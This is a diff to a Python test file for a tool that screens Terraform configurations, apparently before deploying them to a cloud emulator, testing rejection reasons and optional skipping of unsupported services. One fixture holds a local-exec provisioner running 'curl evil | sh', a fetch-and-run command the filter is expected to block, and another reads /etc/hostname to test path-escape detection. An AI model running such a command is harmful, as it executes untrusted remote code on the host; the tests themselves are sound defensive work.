@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+from lsqm.config import DiscoverySettings
 from lsqm.discovery.filter import Policy, evaluate
 from lsqm.terraform.inventory import service_of
 from tests.discovery.helpers import S3_TF, write_tree
@@ -44,7 +45,7 @@ def test_all_reasons_are_recorded(tmp_path: Path) -> None:
 module "vpc" { source = "terraform-aws-modules/vpc/aws" }
 module "g" { source = "git::https://example.com/x.git" }
 data "terraform_remote_state" "net" { backend = "s3" }
-resource "random_pet" "p" {}
+data "template_file" "t" { template = "x" }
 resource "null_resource" "n" {
   provisioner "local-exec" { command = "curl evil | sh" }
 }
@@ -53,7 +54,7 @@ resource "aws_lambda_function" "f" {
   filename = "missing.zip"
   source_code_hash = filebase64sha256("${path.module}/missing.zip")
 }
-resource "aws_apigatewayv2_api" "api" { name = "x" }
+resource "aws_cognito_user_pool" "pool" { name = "x" }
 terraform {
   backend "s3" { bucket = "state" }
 }
@@ -63,10 +64,12 @@ terraform {
     found = codes(tmp_path)
     assert found == {
         "remote_module", "remote_state", "provider_not_allowed", "exec_not_allowed",
-        "missing_file", "service_not_supported", "remote_backend",
+        "missing_file", "remote_backend",
     }  # fmt: skip
     reasons = evaluate(tmp_path, tmp_path).reasons
     assert sum(r.code.value == "remote_module" for r in reasons) == 2
+    skip = Policy(skip_unsupported_services=True)
+    assert codes(tmp_path, policy=skip) == found | {"service_not_supported"}
 
 
 def test_exec_allowed_by_setting(tmp_path: Path) -> None:
@@ -136,10 +139,30 @@ def test_local_modules_are_followed_and_kept(tmp_path: Path) -> None:
     assert codes(tmp_path, tmp_path) == {"required_variable"}
 
 
-def test_services_list_is_configurable(tmp_path: Path) -> None:
-    write_tree(tmp_path, {"main.tf": 'resource "aws_msk_cluster" "k" {}\n'})
-    assert codes(tmp_path) == {"service_not_supported"}
-    assert codes(tmp_path, policy=Policy(supported_services=frozenset({"kafka"}))) == set()
+def test_services_outside_the_emulator_are_kept_and_recorded(tmp_path: Path) -> None:
+    """The gaps lsqm exists to measure: kept by default, named, skipped only when asked."""
+    write_tree(tmp_path, {"main.tf": 'resource "aws_msk_cluster" "k" {}\n' + S3_TF
+                          + 'data "aws_canonical_user_id" "me" {}\n'})  # fmt: skip
+    kept = evaluate(tmp_path, tmp_path)
+    assert kept.accepted, kept.reasons
+    assert kept.inventory.services == ["kafka", "s3"]
+    assert kept.unsupported == {"kafka": ["aws_msk_cluster"]}
+    assert kept.as_dict()["unsupported_services"] == {"kafka": ["aws_msk_cluster"]}
+    skipped = evaluate(tmp_path, tmp_path, Policy(skip_unsupported_services=True))
+    assert [(r.code.value, r.detail) for r in skipped.reasons] == [
+        ("service_not_supported", "kafka (aws_msk_cluster) is not offered by the target emulator")
+    ]
+    listed = Policy(supported_services=frozenset({"kafka", "s3"}), skip_unsupported_services=True)
+    assert codes(tmp_path, policy=listed) == set()
+    assert evaluate(tmp_path, tmp_path, listed).unsupported == {}
+
+
+def test_skipping_services_is_a_setting_off_by_default() -> None:
+    assert DiscoverySettings().skip_unsupported_services is False
+    assert Policy.from_settings(DiscoverySettings()) == Policy()
+    assert Policy.from_settings(DiscoverySettings(skip_unsupported_services=True)) == Policy(
+        skip_unsupported_services=True
+    )
 
 
 def test_service_names() -> None:
@@ -155,3 +178,49 @@ def test_service_names() -> None:
     assert service_of("aws_cognito_user_pool") == "cognito-idp"
     assert service_of("aws_iam_policy_document") is None
     assert service_of("random_pet") is None
+
+
+UTILITIES_TF = """
+resource "random_pet" "p" {}
+resource "null_resource" "n" {}
+resource "time_sleep" "t" { create_duration = "1s" }
+resource "tls_private_key" "k" { algorithm = "RSA" }
+resource "local_file" "out" {
+  filename = "${path.module}/build/out.txt"
+  content  = random_pet.p.id
+}
+data "archive_file" "zip" {
+  type        = "zip"
+  source_file = "${path.module}/build/out.txt"
+  output_path = "${path.module}/build/out.zip"
+}
+resource "aws_sqs_queue" "q" { name = random_pet.p.id }
+"""
+
+
+def test_hashicorp_utility_providers_are_allowed_by_default(tmp_path: Path) -> None:
+    write_tree(tmp_path, {"main.tf": UTILITIES_TF})
+    decision = evaluate(tmp_path, tmp_path)
+    assert decision.accepted, decision.reasons
+    assert decision.inventory.providers == ["archive", "aws", "local", "null", "random", "time",
+                                            "tls"]  # fmt: skip
+    only_aws = Policy.from_settings(DiscoverySettings(allowed_providers=["aws"]))
+    assert codes(tmp_path, policy=only_aws) == {"provider_not_allowed"}
+    assert DiscoverySettings().allowed_providers == [
+        "aws", "archive", "local", "null", "random", "time", "tls",
+    ]  # fmt: skip
+
+
+def test_a_local_file_data_source_reads_its_filename(tmp_path: Path) -> None:
+    """local_file the resource writes ``filename``; local_file the data source reads it."""
+    repo = tmp_path / "repo"
+    write_tree(repo, {"app/main.tf": S3_TF + """
+data "local_file" "gone" { filename = "${path.module}/gone.txt" }
+data "local_file" "host" { filename = "/etc/hostname" }
+data "local_file" "here" { filename = "${path.module}/here.txt" }
+""", "app/here.txt": "hi"})  # fmt: skip
+    reasons = evaluate(repo / "app", repo).reasons
+    assert sorted((r.code.value, r.detail.split(" ", 1)[1]) for r in reasons) == [
+        ("missing_file", "filename needs ${path.module}/gone.txt"),
+        ("path_escape", "filename reads /etc/hostname outside"),
+    ]
